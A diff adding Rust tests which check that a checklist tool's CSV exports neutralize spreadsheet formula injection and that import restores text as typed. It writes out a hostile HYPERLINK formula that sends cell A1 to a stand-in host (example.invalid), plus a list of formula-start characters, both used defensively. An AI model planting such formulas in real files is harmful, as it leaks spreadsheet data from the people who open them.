@@ -1,0 +1,190 @@
+//! What the CSV and JSON exports may carry: no cell a spreadsheet program would run as a
+//! formula, in every CSV the tool writes (and `import` reads such cells back as typed).
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::common::tool;
+
+/// The first characters a spreadsheet program reads as the start of a formula.
+const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text starting with `first` that a spreadsheet would run.
+fn payload(first: char) -> String {
+    format!("{first}HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")")
+}
+
+/// An answers file whose district, label, evidence, note and internal note all start with
+/// `first` (the label is made unique per character so that compare can tell files apart).
+fn hostile_answers(dir: &Path, first: char, name: &str) -> PathBuf {
+    let text = payload(first);
+    let quoted = serde_json::to_string(&text).unwrap();
+    let label = serde_json::to_string(&format!("{first}{name}")).unwrap();
+    let path = dir.join(format!("{name}.yaml"));
+    fs::write(
+        &path,
+        format!(
+            "checklist: wi-sro-best-practices\n\
+             profile: existing-program\n\
+             district: {quoted}\n\
+             label: {label}\n\
+             date: 2026-03-15\n\
+             answers:\n\
+             \x20 governance.written-mou:\n\
+             \x20   status: partial\n\
+             \x20   evidence: {quoted}\n\
+             \x20   note: {quoted}\n\
+             \x20   internal_note: {quoted}\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+fn stdout_of(args: &[&str], files: &[&Path]) -> String {
+    let output = tool().args(args).args(files).output().unwrap();
+    assert!(
+        output.status.success() || output.status.code() == Some(1),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout).unwrap()
+}
+
+fn cells(csv_text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv_text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+/// No cell starts with a formula character, and the payload appears only neutralized (as
+/// `'=HYPERLINK...`, quoted in the file) at least once.
+fn assert_neutralized(what: &str, first: char, csv_text: &str) {
+    let rows = cells(csv_text);
+    for (r, row) in rows.iter().enumerate() {
+        for (c, cell) in row.iter().enumerate() {
+            let negative_number = cell.strip_prefix('-').is_some_and(|n| {
+                !n.is_empty() && n.chars().all(|ch| ch.is_ascii_digit() || ch == '.')
+            });
+            assert!(
+                !cell.starts_with(DANGEROUS) || negative_number,
+                "{what} ({first:?}): row {r} column {c} starts with a formula character: {cell:?}"
+            );
+        }
+    }
+    let neutralized = format!("'{}", payload(first));
+    if rows.iter().flatten().any(|cell| *cell == neutralized) {
+        assert!(
+            csv_text.contains(&format!("\"'{first}HYPERLINK")),
+            "{what} ({first:?}): the neutralized cell is not quoted"
+        );
+        return;
+    }
+    // The loader trims a leading tab or carriage return from answers text: what is left starts
+    // with H and is harmless. The writer's own handling of both is tested in `csv_cell`.
+    let trimmed = payload(first)[1..].to_string();
+    assert!(
+        first.is_whitespace() && rows.iter().flatten().any(|cell| *cell == trimmed),
+        "{what} ({first:?}): no neutralized cell in:\n{csv_text}"
+    );
+}
+
+#[test]
+fn every_csv_the_tool_writes_neutralizes_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    for first in DANGEROUS {
+        let a = hostile_answers(dir.path(), first, "a");
+        let b = hostile_answers(dir.path(), first, "b");
+        let report = stdout_of(&["report", "-f", "csv", "--include-internal-notes"], &[&a]);
+        assert_neutralized("report", first, &report);
+        let compare = stdout_of(&["compare", "-f", "csv"], &[&a, &b]);
+        assert_neutralized("compare", first, &compare);
+        let summary = stdout_of(&["summary", "-f", "csv"], &[&a, &b]);
+        assert_neutralized("summary", first, &summary);
+
+        let template = dir.path().join("template.csv");
+        let district = payload(first);
+        tool()
+            .args(["init", "--force", "--date", "2026-03-15"])
+            .arg(format!("--district={district}"))
+            .arg("--from")
+            .arg(&a)
+            .arg("-o")
+            .arg(&template)
+            .assert()
+            .success();
+        let text = fs::read_to_string(&template).unwrap();
+        assert_neutralized("init --from template", first, &text);
+    }
+}
+
+/// The value of `answers.ITEM.FIELD` (or a header field with `item` empty) in a YAML file.
+fn yaml_field(path: &Path, item: &str, field: &str) -> Option<String> {
+    let value: serde_yaml::Value =
+        serde_yaml::from_str(&fs::read_to_string(path).unwrap()).unwrap();
+    let node = if item.is_empty() {
+        value.get(field)
+    } else {
+        value.get("answers")?.get(item)?.get(field)
+    };
+    node?.as_str().map(String::from)
+}
+
+#[test]
+fn import_of_a_csv_template_gives_back_the_text_as_typed() {
+    let dir = tempfile::tempdir().unwrap();
+    let typed = [
+        "-2 officers on site, not 3",
+        "=SUM(A1:A2) is how the budget sheet adds it",
+        "+1 position requested",
+        "@district office keeps the roster",
+        "'=quoted on purpose",
+        "''two quotes",
+        "'Tis the season",
+        "-12.5",
+    ];
+    for text in typed {
+        let answers = dir.path().join("earlier.yaml");
+        fs::write(
+            &answers,
+            format!(
+                "checklist: wi-sro-best-practices\nprofile: existing-program\n\
+                 district: {quoted}\nlabel: \"2025\"\ndate: 2025-03-15\n\
+                 answers:\n  governance.written-mou:\n    status: met\n    evidence: {quoted}\n",
+                quoted = serde_json::to_string(text).unwrap()
+            ),
+        )
+        .unwrap();
+        let template = dir.path().join("template.csv");
+        tool()
+            .args(["init", "--force", "--date", "2026-03-15", "--from"])
+            .arg(&answers)
+            .arg("-o")
+            .arg(&template)
+            .assert()
+            .success();
+        let imported = dir.path().join("imported.yaml");
+        tool()
+            .arg("import")
+            .arg(&template)
+            .arg("--force")
+            .arg("-o")
+            .arg(&imported)
+            .assert()
+            .success();
+        assert_eq!(
+            yaml_field(&imported, "governance.written-mou", "evidence").as_deref(),
+            Some(text),
+            "evidence"
+        );
+        assert_eq!(
+            yaml_field(&imported, "", "district").as_deref(),
+            Some(text),
+            "district"
+        );
+    }
+}
